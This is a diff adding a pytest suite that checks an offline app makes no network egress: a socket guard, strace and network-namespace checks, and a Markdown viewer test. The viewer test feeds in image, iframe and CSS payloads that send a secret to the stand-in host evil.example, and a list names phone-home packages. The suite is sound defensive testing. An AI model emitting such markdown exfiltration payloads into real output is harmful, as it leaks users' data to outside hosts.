@@ -1,0 +1,181 @@
+"""No network egress: the guard refuses it, and a whole session proves it at the system-call
+level (strace) and in a network namespace without interfaces (unshare -rn)."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+ROOT = Path(__file__).resolve().parent.parent
+# Packages that would mean a dependency can phone home (HTTP clients, hubs, telemetry).
+PHONE_HOME = {"requests", "urllib3", "httpx", "httpcore", "aiohttp", "huggingface_hub", "sentry_sdk",
+              "posthog", "segment", "analytics", "mixpanel", "boto3", "botocore", "grpc", "websocket",
+              "websockets", "pip", "tqdm"}
+
+
+def run_python(code: str) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60)
+
+
+def test_the_guard_refuses_connections_lookups_and_sends_and_counts_them() -> None:
+    code = """
+from app import egress
+egress.install()
+import socket, json, urllib.request
+results = {}
+def attempt(name, fn):
+    try:
+        fn(); results[name] = "allowed"
+    except egress.EgressBlocked as exc:
+        results[name] = "blocked"
+    except OSError as exc:
+        results[name] = "allowed-but-failed"
+attempt("connect", lambda: socket.create_connection(("93.184.216.34", 443), timeout=1))
+attempt("ipv6", lambda: socket.socket(socket.AF_INET6).connect(("2606:4700::1111", 53)))
+attempt("dns", lambda: socket.getaddrinfo("example.com", 443))
+attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53)))
+attempt("urllib", lambda: urllib.request.urlopen("https://example.com", timeout=1))
+attempt("bind-public", lambda: socket.socket().bind(("0.0.0.0", 0)))
+attempt("loopback-not-opened", lambda: socket.create_connection(("127.0.0.1", 9), timeout=1))
+server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
+port = server.getsockname()[1]
+egress.allow_loopback_port(port)
+attempt("loopback-opened", lambda: socket.create_connection(("127.0.0.1", port), timeout=1))
+attempt("unix", lambda: socket.socketpair())
+results["count"] = egress.GUARD.blocked_count
+import os; results["offline"] = os.environ["HF_HUB_OFFLINE"]
+print(json.dumps(results))
+"""
+    done = run_python(code)
+    assert done.returncode == 0, done.stderr
+    results = json.loads(done.stdout.strip().splitlines()[-1])
+    for name in ("connect", "ipv6", "dns", "udp", "bind-public", "loopback-not-opened"):
+        assert results[name] == "blocked", (name, results)
+    assert results["urllib"] in ("blocked", "allowed-but-failed")  # urllib wraps the refusal
+    assert results["loopback-opened"] == "allowed" and results["unix"] == "allowed"
+    assert results["count"] >= 7 and results["offline"] == "1"
+    assert "blocked name lookup to 93.184.216.34:443" in done.stderr  # logged: destination only
+    assert "blocked connection to 2606:4700::1111:53" in done.stderr
+
+
+def _session(data_dir: Path, prefix: list[str]) -> subprocess.CompletedProcess:
+    env = dict(os.environ, HEARTH_DATA_DIR=str(data_dir), QT_QPA_PLATFORM="offscreen")
+    return subprocess.run([*prefix, sys.executable, "-m", "tests.e2e_session"], cwd=ROOT, env=env,
+                          capture_output=True, text=True, timeout=600)
+
+
+def _usable(command: list[str]) -> str | None:
+    """None if the command works here, else why not."""
+    if shutil.which(command[0]) is None:
+        return f"{command[0]} is not installed (Debian package {'strace' if command[0] == 'strace' else 'util-linux'})"
+    probe = subprocess.run([*command, "true"], capture_output=True, text=True)
+    if probe.returncode != 0:
+        return f"{' '.join(command)} does not work here: {probe.stderr.strip()[:200]}"
+    return None
+
+
+@pytest.mark.e2e
+@pytest.mark.model
+@pytest.mark.slow
+def test_a_whole_session_works_with_no_network_at_all(data_dir: Path) -> None:
+    why = _usable(["unshare", "-rn"])
+    if why:
+        pytest.skip(f"cannot make a network namespace: {why}")
+    done = _session(data_dir, ["unshare", "-rn"])
+    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-4000:]
+    assert "SESSION OK" in done.stdout and "blocked: 0" in done.stdout
+    modules = set(json.loads(done.stdout.strip().splitlines()[-1]))
+    assert not modules & PHONE_HOME, modules & PHONE_HOME
+
+
+ADDRESS = re.compile(r'inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6,\s*"([^"]+)"\)')
+
+
+def non_loopback_traffic(trace: str) -> list[str]:
+    """Lines of an strace -e trace=network log that connect or send to a non-loopback address."""
+    found = []
+    for line in trace.splitlines():
+        if not re.search(r"\b(connect|sendto|sendmsg|sendmmsg)\(", line):
+            continue
+        for v4, v6 in ADDRESS.findall(line):
+            address = v4 or v6
+            if not (address.startswith("127.") or address in ("::1", "::ffff:127.0.0.1", "0.0.0.0", "::")):
+                found.append(line.strip())
+    return found
+
+
+def test_the_strace_check_does_see_egress(tmp_path: Path) -> None:
+    why = _usable(["strace", "-f", "-e", "trace=network", "-o", str(tmp_path / "t")])
+    if why:
+        pytest.skip(why)
+    log = tmp_path / "trace.log"
+    code = ("import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+            "s.sendto(b'x', ('192.0.2.1', 9))\ns.connect(('127.0.0.1', 9))\n")
+    subprocess.run(["strace", "-f", "-e", "trace=network", "-o", str(log), sys.executable, "-c", code],
+                   capture_output=True, timeout=60)
+    bad = non_loopback_traffic(log.read_text())
+    assert len(bad) == 1 and "192.0.2.1" in bad[0]  # seen; the loopback connect is not counted
+
+
+@pytest.mark.e2e
+@pytest.mark.model
+@pytest.mark.slow
+def test_no_connect_or_send_leaves_the_machine_at_the_system_call_level(data_dir: Path, tmp_path: Path) -> None:
+    log = tmp_path / "trace.log"
+    prefix = ["strace", "-f", "-qq", "-e", "trace=network", "-o", str(log)]
+    why = _usable(prefix[:-2] + ["-o", str(tmp_path / "probe.log")])
+    if why:
+        pytest.skip(why)
+    done = _session(data_dir, prefix)
+    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-4000:]
+    trace = log.read_text()
+    assert "socket(" in trace or "socketpair(" in trace  # strace did watch the session
+    assert non_loopback_traffic(trace) == []
+
+
+@pytest.mark.gui
+def test_answers_with_remote_content_load_nothing(qtbot, monkeypatch) -> None:
+    from app.widgets import MarkdownView
+
+    requested: list[str] = []
+    original = MarkdownView.loadResource
+
+    def recording(self, kind, url):
+        requested.append(url.toString())
+        return original(self, kind, url)
+
+    monkeypatch.setattr(MarkdownView, "loadResource", recording)
+    view = MarkdownView()
+    qtbot.addWidget(view)
+    view.show()
+    view.set_markdown(
+        "Here is your data ![chart](https://evil.example/leak?secret=hunter2)\n\n"
+        "![ref image][r]\n\n[r]: http://evil.example/r.png\n\n"
+        '<img src="https://evil.example/img.png"> <iframe src="https://evil.example/frame"></iframe>\n\n'
+        '<style>body { background: url("https://evil.example/bg.png") }</style>\n\n'
+        '<div style="background-image:url(https://evil.example/css.png)">styled</div>\n\n'
+        "A [normal link](https://example.org) and <https://example.org/auto>.")
+    qtbot.wait(50)
+    assert requested == []  # nothing asked for, so nothing can be fetched
+    text = view.toPlainText()
+    assert "image: chart" in text and "image: ref image" in text  # shown inert, as text
+    anchors = []
+    block = view.document().begin()
+    while block.isValid():
+        iterator = block.begin()
+        while not iterator.atEnd():
+            fmt = iterator.fragment().charFormat()
+            if fmt.isAnchor():
+                anchors.append(fmt.anchorHref())
+            if fmt.isImageFormat():
+                raise AssertionError(f"an image was placed: {fmt.toImageFormat().name()}")
+            iterator += 1
+        block = block.next()
+    assert "https://example.org" in anchors  # links stay links; opening them asks first
